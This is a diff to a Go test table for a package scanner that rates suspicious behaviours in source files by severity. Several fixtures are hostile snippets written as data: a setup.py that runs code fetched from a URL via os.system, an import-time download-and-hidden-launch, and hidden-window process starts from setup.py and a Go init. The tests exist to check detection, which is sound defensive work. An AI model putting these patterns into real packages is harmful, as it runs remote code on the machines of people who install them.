@@ -23,7 +23,9 @@ func TestBehaviourClasses(t *testing.T) {
 		most  record.Severity // when above info: the highest severity allowed (no block)
 	}{
 		// silent-exec
-		{"python detached at import", map[string]string{"acme/__init__.py": "import subprocess\nsubprocess.Popen(['pythonw', 'x.py'], creationflags=subprocess.DETACHED_PROCESS | subprocess.CREATE_NO_WINDOW)\n"}, "silent-exec", record.High, 0},
+		{"python detached at import", map[string]string{"acme/__init__.py": "import subprocess\nsubprocess.Popen(['pythonw', 'x.py'], creationflags=subprocess.DETACHED_PROCESS | subprocess.CREATE_NO_WINDOW)\n"}, "silent-exec", record.Medium, record.Medium},
+		{"python detached at import with network", map[string]string{"acme/__init__.py": "import subprocess, urllib.request\nurllib.request.urlretrieve(U, 'x.py')\nsubprocess.Popen(['pythonw', 'x.py'], creationflags=subprocess.CREATE_NO_WINDOW)\n"}, "silent-exec", record.High, 0},
+		{"python hidden window in setup.py", map[string]string{"setup.py": "import subprocess\nsubprocess.Popen(['x.exe'], creationflags=0x08000000)\n"}, "silent-exec", record.High, 0},
 		{"python plain subprocess", map[string]string{"acme/__init__.py": "import subprocess\nsubprocess.run(['git', 'status'], check=True)\n"}, "silent-exec", quiet, 0},
 		{"shell nohup background", map[string]string{"tools/start.sh": "#!/bin/sh\nnohup ./agent >/dev/null 2>&1 &\n"}, "silent-exec", record.Low, record.Medium},
 		{"shell nohup in foreground", map[string]string{"tools/start.sh": "#!/bin/sh\nnohup ./long-job > job.log\n"}, "silent-exec", quiet, 0},
@@ -33,7 +35,7 @@ func TestBehaviourClasses(t *testing.T) {
 		{"powershell visible process", map[string]string{"tools/run.ps1": "Start-Process -FilePath $f -Wait\n"}, "silent-exec", quiet, 0},
 		{"js detached but inherited output", map[string]string{"lib/x.js": "const c = spawn(cmd, { detached: true, stdio: 'inherit' });\nc.unref();\n"}, "silent-exec", quiet, 0},
 
-		{"go hidden window at init", map[string]string{"x/x_windows.go": "package x\n\nimport (\n\t\"os/exec\"\n\t\"syscall\"\n)\n\nfunc init() {\n\tc := exec.Command(\"updater.exe\")\n\tc.SysProcAttr = &syscall.SysProcAttr{HideWindow: true}\n\tc.Start()\n}\n"}, "silent-exec", record.High, 0},
+		{"go hidden window at init", map[string]string{"x/x_windows.go": "package x\n\nimport (\n\t\"os/exec\"\n\t\"syscall\"\n)\n\nfunc init() {\n\tc := exec.Command(\"updater.exe\")\n\tc.SysProcAttr = &syscall.SysProcAttr{HideWindow: true}\n\tc.Start()\n}\n"}, "silent-exec", record.Medium, 0},
 		{"ruby detached spawn", map[string]string{"lib/acme/daemon.rb": "pid = spawn('acme-agent', out: File::NULL, err: File::NULL, pgroup: true)\nProcess.detach(pid)\n"}, "silent-exec", record.Low, 0},
 		{"ruby waits for its child", map[string]string{"lib/acme/run.rb": "pid = spawn('make', 'all')\nProcess.wait(pid)\n"}, "silent-exec", quiet, 0},
 
@@ -63,7 +65,8 @@ func TestBehaviourClasses(t *testing.T) {
 
 		// dynamic-import
 		{"alias in ordinary code", map[string]string{"acme/util.py": "from os import system as s\ns('ls')\n"}, "dynamic-import", record.Low, 0},
-		{"alias in setup.py", map[string]string{"setup.py": "from os import system as s\nfrom setuptools import setup\ns('sh /tmp/x')\nsetup(name='x')\n"}, "dynamic-import", record.High, 0},
+		{"alias in setup.py", map[string]string{"setup.py": "from subprocess import check_output as _out\nfrom setuptools import setup\nsetup(name='x', version=_out(['git', 'describe']).decode())\n"}, "dynamic-import", record.Low, record.Low},
+		{"alias in setup.py with network", map[string]string{"setup.py": "from os import system as s\nimport urllib.request\nfrom setuptools import setup\ns(urllib.request.urlopen(U).read().decode())\nsetup(name='x')\n"}, "dynamic-import", record.Critical, 0},
 		{"plugin loader", map[string]string{"acme/plugins.py": "import importlib\n\ndef load(name):\n    return importlib.import_module('acme.plugins.' + name)\n"}, "dynamic-import", quiet, 0},
 
 		// native-loader-abuse
